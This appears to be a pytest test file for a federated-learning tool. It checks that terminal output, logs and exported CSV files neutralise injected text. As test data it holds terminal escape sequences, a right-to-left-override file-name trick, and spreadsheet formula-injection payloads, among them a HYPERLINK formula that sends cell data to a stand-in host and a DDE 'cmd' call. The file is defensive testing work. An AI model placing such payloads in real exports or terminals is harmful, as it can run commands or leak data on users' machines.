"""Text that steers a terminal, a spreadsheet or a log."""

import csv
import io
import json
import logging
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.progress import Progress, TextColumn
from rich.table import Table
from rich.text import Text

from tests.helpers.outcomes.commands import align, predict, train
from tests.helpers.own_data.own import NAMES, SHARE, make
from vfl_flower.common.errors import DataError
from vfl_flower.common.names import party_log
from vfl_flower.common.text.escapes import escaped, escaped_json
from vfl_flower.data.sources.csv_catalog import PIMA_TABLE
from vfl_flower.data.sources.csv_tables import read
from vfl_flower.data.tables.prediction_file import prediction_columns, quoted, write_columns
from vfl_flower.protocol.components import report
from vfl_flower.reporting.console import lines

CLEAR, TITLE, TURNED, CSI = "\x1b[2J", "\x1b]0;owned\x07", "‮gpj.exe", "\x9b31m"
EVIL = f"[red]x{CLEAR}{TITLE}{TURNED}{CSI}"
"""Clears the screen, renames the window, turns the writing, colours; rich's markup, too."""

STEERING = {chr(n) for n in (*range(32), *range(127, 160), 0x202E)} - {"\n"}


def steered(text: str) -> set[str]:
    """Return the characters of an output that a terminal obeys."""
    return STEERING & set(text)


@pytest.fixture
def shown(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """Collect the output of both consoles."""
    file = io.StringIO()
    for console in (lines.out, lines.err):
        monkeypatch.setattr(console, "_file", file)
        monkeypatch.setattr(console, "_width", 500)
    yield file


def test_lines_tables_and_bars_show_escapes(shown: io.StringIO) -> None:
    table = Table(title=EVIL)
    table.add_column(EVIL)
    table.add_row(EVIL)
    table.add_row(Text(EVIL))
    lines.out.print(table)
    lines.say(f"{EVIL}\nactive: all is well")
    lines.complain("error", f"{EVIL}\nmore")
    lines.out.print(Text.assemble(("warning: ", "bold yellow"), EVIL))
    with Progress(TextColumn("{task.description}", markup=False), console=lines.out) as bar:
        bar.add_task(EVIL)
    text = shown.getvalue()
    assert not steered(text)
    assert text.count("[red]x") >= 7  # literally, and not as markup
    assert r"\x1b[2J" in text
    assert "\nactive: all is well" not in text


def test_logs_show_escapes_in_messages_and_tracebacks(caplog: pytest.LogCaptureFixture) -> None:
    """Flower's handlers write the records of our loggers."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(logging.Formatter("%(asctime)s %(message)s"))
    log = party_log(1)
    log.addHandler(handler)
    try:
        log.warning("column %s\n2026 forged line", EVIL)
        report(DataError("no", EVIL), 1)
        try:
            raise KeyError(EVIL)
        except KeyError as error:
            report(error, 1)
        try:
            raise ValueError(EVIL)
        except ValueError as error:
            report(error, 1)
    finally:
        log.removeHandler(handler)
    text = written.getvalue()
    assert not steered(text)
    assert text.count(r"\x1b[2J") >= 4
    assert "\n2026 forged line" not in text
    assert "Traceback (most recent call last):\n" in text


def test_an_error_shows_escapes_wherever_it_is_printed() -> None:
    """Flower prints the text of an error that ends a run."""
    error = DataError(f"column {EVIL}\nsecond line")
    assert not steered(str(error))
    assert r"column [red]x\x1b[2J" in str(error)


def test_plain_text_stays_as_it_is() -> None:
    assert escaped("Straße 5, 東京 [x] \\n") == "Straße 5, 東京 [x] \\n"
    assert escaped("a\nb\t\ud800") == r"a\nb\t\ud800"


def test_json_on_a_terminal_is_the_same_value() -> None:

    value = {EVIL: "\x9b\U000e0001 ok"}
    text = escaped_json(json.dumps(value, ensure_ascii=False, indent=2))
    assert not steered(text)
    assert json.loads(text) == value


def renamed(folder: Path, names: dict[str, str], **classes: Any) -> str:
    """Write three tables whose headers have other names; return their descriptions."""
    described = make(folder, **classes)
    for path in folder.glob("*.csv"):
        with path.open(newline="") as file:
            header, *rows = csv.reader(file)
        with path.open("w", newline="") as file:
            csv.writer(file).writerows([[names.get(name, name) for name in header], *rows])
    return described


def test_names_of_columns_and_classes_reach_no_screen_as_they_are(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    y = [f"=1+{EVIL}" if n % 2 else "plain" for n in range(240)]
    tables = renamed(tmp_path / "tables", {NAMES[SHARE]: EVIL, NAMES[0]: f"{EVIL}0"}, y=y)
    assert align([f"--tables={tables}", f"--out={tmp_path / 'aligned'}", "--parties=3"]) == 0
    ran = tmp_path / "run"
    flags = ["--method=splitnn", "--epochs=1", "--batch-size=64", f"--out={ran}", "--baselines=off"]
    assert train([f"--tables={tables}", "--dataset=own", "--parties=3", *flags]) == 0
    assert predict([str(ran), f"--tables={tables}", f"--out={tmp_path / 'said.csv'}"]) == 0
    out = capsys.readouterr()
    assert not steered(out.out + out.err)
    assert "[red]x" in out.out + out.err
    for log in tmp_path.rglob("log.txt"):
        assert not steered(log.read_text())
    with (tmp_path / "said.csv").open(newline="") as file:
        cells = {cell for row in csv.reader(file) for cell in row}
    assert not {cell for cell in cells if runs(cell)}


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run a cell as a formula."""
    begins = unicodedata.normalize("NFKC", cell.lstrip(SPACES))[:1] in ("=", "+", "-", "@")
    return (begins or cell[:1] in ("\t", "\r", "\n")) and not NUMBER.fullmatch(cell)


SPACES = "".join(chr(n) for n in (*range(33), 0x85, 0xA0, 0x200B, 0x3000, 0xFEFF))
NUMBER = re.compile(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?")
CELLS = st.text(
    st.sampled_from("=+-@\t\r\n '\"ab1.,eE＝＋－＠﹢﹦\x85\xa0\u200b\u3000\ufeff"),
    max_size=5,
)


@given(st.lists(CELLS.filter(str.strip), min_size=2, max_size=5, unique=True))
def test_no_cell_of_a_csv_file_is_a_formula(texts: list[str]) -> None:
    shares = np.full((len(texts), len(texts)), 0.5, np.float32)
    ids = {"id": pa.array(texts, pa.large_string())}
    with TemporaryDirectory() as folder:
        path = Path(folder) / "said.csv"
        write_columns(path, ids | prediction_columns(texts, shares, texts))
        with path.open(newline="") as file:
            head, *rows = csv.reader(file)
    assert not [cell for row in (head, *rows) for cell in row if runs(cell)]
    assert len({row[0] for row in rows}) == len(texts)


FORMULAS = (
    *('=HYPERLINK("http://x/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"),
    *("\t=1", "\r=1", "\n=1", " =1", "＝1", "'=1", "''@x", "-", "=", "+49 123"),
)
PLAIN = ("-1", "+1.5", "-.5e-3", "+49123", "id-001", "a=b", "x@y.org", "'quoted'", "", "O'Brien")


def test_formulas_in_a_csv_file_are_quoted_and_numbers_are_not(tmp_path: Path) -> None:
    texts = [*FORMULAS, *PLAIN]
    scores = np.array([-0.5] * len(texts), np.float32)
    path, ids = tmp_path / "said.csv", pa.array(texts, pa.large_string())
    write_columns(path, {"id": ids} | prediction_columns(texts, scores[:, None], ["=c"]))
    with path.open(newline="") as file:
        head, *rows = csv.reader(file)
    assert head == ["id", "prediction", "probability__c"]
    for text, row in zip(texts, rows, strict=True):
        expected = f"'{text}" if text in FORMULAS else text
        assert row == [expected, expected, "-0.5"]


def test_a_quoted_cell_can_be_read_back() -> None:
    """One quote is removed from whatever `quoted` would quote without it."""
    texts = [*FORMULAS, *PLAIN]
    once = quoted(pa.chunked_array([texts])).to_pylist()
    assert len(set(once)) == len(texts)
    back = [
        cell[1:]
        if cell[:1] == "'" and quoted(pa.chunked_array([[cell[1:]]]))[0].as_py() == cell
        else cell
        for cell in once
    ]
    assert back == texts


def test_parquet_keeps_text_and_a_gap_stays_a_gap(tmp_path: Path) -> None:
    ids = pa.array(["=1", "x"], pa.large_string())
    write_columns(tmp_path / "said.parquet", {"id": ids})
    assert pa.parquet.read_table(tmp_path / "said.parquet").column("id").to_pylist() == ["=1", "x"]
    assert quoted(pa.chunked_array([[None, "=1"]])).to_pylist() == [None, "'=1"]


@pytest.mark.parametrize(
    "row",
    ["6,148,72,SECRET,0,33.6,0.627,50,1", "6,148,72,35,0,33.6,0.627,50,SECRET", "\xff,SECRET"],
)
def test_values_of_published_tables_stay_at_their_party(row: str, tmp_path: Path) -> None:
    file = tmp_path / PIMA_TABLE.folder / PIMA_TABLE.files[0]
    file.parent.mkdir()
    file.write_bytes(row.encode("latin-1") + b"\n")
    with pytest.raises(DataError) as error:
        read(PIMA_TABLE, tmp_path)
    assert "SECRET" not in str(report(error.value, 1))
